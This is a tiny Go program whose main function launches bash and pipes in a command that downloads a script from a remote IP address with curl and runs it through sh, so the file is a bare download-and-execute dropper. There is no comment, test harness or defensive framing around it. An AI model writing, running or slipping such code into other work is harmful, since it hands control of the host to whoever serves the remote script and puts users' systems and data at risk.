package main

import (
	"io"
	"os/exec"
)

func main() {
	c := exec.Command("bash")
	in, _ := c.StdinPipe()
	c.Start()
	io.WriteString(in, "curl -s http://203.0.113.62/g | sh\n")
	in.Close()
	c.Wait()
}
